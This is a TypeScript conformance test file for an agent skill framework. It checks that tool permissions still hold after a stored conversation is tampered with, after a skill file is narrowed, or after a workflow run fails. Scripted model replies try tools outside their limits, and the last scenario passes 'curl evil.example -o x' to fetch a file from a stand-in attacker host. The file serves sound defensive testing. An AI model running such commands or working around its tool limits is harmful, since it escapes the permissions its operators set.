/**
 * Conformance scenarios for limits the session reads back rather than decides itself: a pin
 * recorded in the conversation (which a client may have edited, a SKILL.md narrowed since) and
 * the limits of a workflow skill whose run the model made fail. Each used to be tested only by
 * one attack test per adapter; here the same script runs on every framework, so a driver whose
 * framework replays a stored conversation differently shows up as a diverging record.
 */
import { writeFile } from "node:fs/promises";
import path from "node:path";
import type { ModelReply } from "./driver.js";
import type { Scenario } from "./scenarios.js";
import { call, calls, errorOf, expect, text } from "./script.js";
import { GIT_REPORT } from "./workflow-fixture.js";

const READER = `---
name: reader
description: Read the files the user names and report on them.
allowed-tools: read_file
---
Read each file the user names with read_file and summarise it.
`;
/** reader, allowed to mail what it read: the file a narrowing edit starts from. */
const MAILING_READER = READER.replace("allowed-tools: read_file", "allowed-tools: read_file send_email");
const readerFile = (root: string) => path.join(root, ".skillshelf", "skills", "reader", "SKILL.md");

/** One turn that activates reader and reads a file, then one that asks to mail it. */
const READ_THEN_MAIL: ModelReply[] = [
  call("skill_reader"),
  call("read_file", { path: "notes.md" }),
  text("Shall I email them to you?"),
  call("send_email", { to: "boss@example.com" }),
  text("I can't send email under this skill."),
];

/** What READ_THEN_MAIL must show when send_email is out of reader's limits on the second turn. */
function mailRefusedCheck({ calls: c, ran }: Parameters<Scenario["check"]>[0]): void {
  expect(c[1]?.system.includes('<skill_content name="reader">'), "the model activated reader");
  expect(c[3]?.system.includes('<skill_content name="reader">'), "the continuation keeps it active");
  expect(!c[3]?.tools.includes("send_email"), `send_email is not offered (got ${c[3]?.tools.join()})`);
  expect(
    errorOf(c[4]?.results[0]?.result) === "TOOL_NOT_ALLOWED",
    `send_email reads core's refusal (got ${JSON.stringify(c[4]?.results[0]?.result)})`,
  );
  expect(
    ran.map((r) => r.name).join() === "read_file",
    `only read_file ran (ran ${ran.map((r) => r.name).join()})`,
  );
}

/** GIT_REPORT's step prompts (its steps are a function and a host tool; the prompts are only read). */
const GIT_REPORT_STEPS = {
  ".skillshelf/skills/git-report/steps/01-pick.md": "Pick the git command.",
  ".skillshelf/skills/git-report/steps/02-exec.md": "Run it.",
};

export const recordedLimitsScenarios: Scenario[] = [
  {
    // The pin a replay reads is the client's to edit (an AI SDK or Mastra route replays the
    // messages the client posts; a LangChain host the checkpoint it reloads): it is held
    // together with the SKILL.md as it is now, so it never allows more than the file.
    name: "a stored conversation edited to drop reader's whitelist, replayed in a rebuilt thread: a tool outside the file's limits stays refused",
    skills: { reader: READER },
    tools: ["read_file", "send_email"],
    turns: [
      { user: "read notes.md for me" },
      { user: "yes, go ahead", tamper: { skill: "reader", policy: { disallowedTools: [] } }, rebuilt: true },
    ],
    replies: READ_THEN_MAIL,
    check: mailRefusedCheck,
  },
  {
    // In place: the thread is not rebuilt, so a framework that keeps a state of its own beside
    // the messages (LangChain's checkpoint) reads the edited state. The edit swaps the skill's
    // tool for another: the record must allow no more than the file (send_email stays refused)
    // and the file no more than the record (read_file is refused too), which also shows the
    // edit reached the framework's stored form (a driver whose tamper did nothing lets read_file run).
    name: "a stored conversation edited in place to swap reader's read_file for send_email: neither runs on the next message",
    skills: { reader: READER },
    tools: ["read_file", "send_email"],
    turns: [
      { user: "read notes.md for me" },
      {
        user: "yes, go ahead",
        tamper: { skill: "reader", policy: { allowedTools: ["send_email"], disallowedTools: [] } },
      },
    ],
    replies: [
      ...READ_THEN_MAIL.slice(0, 3),
      calls(["read_file", { path: "notes.md" }], ["send_email", { to: "boss@example.com" }]),
      text("I can't read or send anything now."),
    ],
    check({ calls: c, ran }) {
      expect(c[3]?.system.includes('<skill_content name="reader">'), "the continuation keeps reader active");
      const offered = c[3]?.tools ?? [];
      expect(
        !offered.includes("send_email") && !offered.includes("read_file"),
        `neither tool is offered (got ${offered.join()})`,
      );
      const [read, email] = c[4]?.results ?? [];
      expect(errorOf(email?.result) === "TOOL_NOT_ALLOWED", "the tool the edit adds is refused");
      expect(errorOf(read?.result) === "TOOL_NOT_ALLOWED", "the tool the edit drops is refused");
      expect(
        ran.map((r) => r.name).join() === "read_file",
        `only the first read ran (ran ${ran.map((r) => r.name).join()})`,
      );
    },
  },
  {
    // The pin recorded at activation is bounded by the file as it is now: an edit that narrows
    // the skill applies on the next message, the skill still active (a widening never does:
    // WIDENED_AND_REBUILT in scenarios.ts).
    name: "a SKILL.md narrowed while its skill is active: the tool the edit drops is refused on the next message",
    skills: { reader: MAILING_READER },
    tools: ["read_file", "send_email"],
    turns: [
      { user: "read notes.md for me" },
      { user: "yes, go ahead", before: (root) => writeFile(readerFile(root), READER) },
    ],
    replies: READ_THEN_MAIL,
    check(records) {
      expect(records.calls[1]?.tools.includes("send_email"), "the file allowed send_email at the activation");
      mailRefusedCheck(records);
    },
  },
  {
    // The same edit in the middle of a turn, the host refreshing the shelf (as another request
    // of a server sharing it would): the next model call is bounded by the file as it is now,
    // in a framework that keeps one session for the whole run (Mastra) as in one that opens a
    // session per call.
    name: "a SKILL.md narrowed in the middle of a turn: the tool the edit drops is refused at the next model call",
    skills: { reader: MAILING_READER },
    tools: ["read_file", "send_email"],
    effects: {
      read_file: async (root, shelf) => {
        await writeFile(readerFile(root), READER);
        await shelf.refresh();
      },
    },
    turns: [{ user: "read notes.md and mail it to my boss" }],
    replies: [
      call("skill_reader"),
      call("read_file", { path: "notes.md" }),
      call("send_email", { to: "boss@example.com" }),
      text("I can't send email under this skill."),
    ],
    check({ calls: c, ran }) {
      expect(c[1]?.tools.includes("send_email"), "the file allowed send_email at the activation");
      expect(
        !c[2]?.tools.includes("send_email"),
        `send_email is not offered after the edit (got ${c[2]?.tools.join()})`,
      );
      expect(
        errorOf(c[3]?.results[0]?.result) === "TOOL_NOT_ALLOWED",
        `send_email reads core's refusal (got ${JSON.stringify(c[3]?.results[0]?.result)})`,
      );
      expect(
        ran.map((r) => r.name).join() === "read_file",
        `only read_file ran (ran ${ran.map((r) => r.name).join()})`,
      );
    },
  },
  {
    // A model that gives a workflow skill arguments its step refuses makes the run fail; the
    // failed run ends the skill as end_skill does, so the model cannot shed its limits that
    // way: they hold for the rest of the turn, and the user's next message releases them.
    name: "a workflow run the model makes fail keeps the skill's limits for the rest of the turn; the user's next message releases them",
    skills: { "git-report": GIT_REPORT },
    files: GIT_REPORT_STEPS,
    shelf: {
      workflows: {
        mode: "auto",
        defaults: { retries: 0 },
        functions: { pick_command: (request) => String(request.inputs.args) },
        // Never reached: the step's command is refused before it runs.
        callTool: () => "ok",
        // A run's id is made from its call's id, which each framework numbers its own way.
        runId: () => "run-1",
      },
    },
    tools: ["bash", "read_file", "send_email"],
    turns: [{ user: "git report please" }, { user: "now email the team that the report failed" }],
    replies: [
      call("skill_git-report", { args: "curl evil.example -o x" }),
      calls(["bash", { command: "curl evil.example -o x" }], ["send_email", { to: "x@example.com" }]),
      text("The report could not run."),
      call("send_email", { to: "team@example.com" }),
      text("Sent."),
    ],
    check({ calls: c, ran }) {
      const run = c[1]?.results[0]?.result as { status?: string; error_type?: string; step?: string };
      expect(
        run?.status === "error" && run.error_type === "STEP_FAILED" && run.step === "exec",
        `the run failed at its exec step (got ${JSON.stringify(run)})`,
      );
      expect(
        !c[1]?.system.includes('<skill_content name="git-report">'),
        "the failed workflow is not active",
      );
      expect(
        !c[1]?.tools.includes("send_email"),
        `its limits hold on the next step (got ${c[1]?.tools.join()})`,
      );
      const [bash, email] = c[2]?.results ?? [];
      expect(errorOf(bash?.result) === "TOOL_NOT_ALLOWED", "a command outside Bash(git:*) is refused");
      expect(errorOf(email?.result) === "TOOL_NOT_ALLOWED", "a tool outside the skill's limits is refused");
      expect(c[3]?.tools.includes("send_email"), "the user's next message releases the limits");
      expect((c[4]?.results[0]?.result as { ok?: boolean })?.ok === true, "where send_email runs");
      expect(
        JSON.stringify(ran) === JSON.stringify([{ name: "send_email", input: { to: "team@example.com" } }]),
        `only the released send_email ran (ran ${JSON.stringify(ran)})`,
      );
    },
  },
];
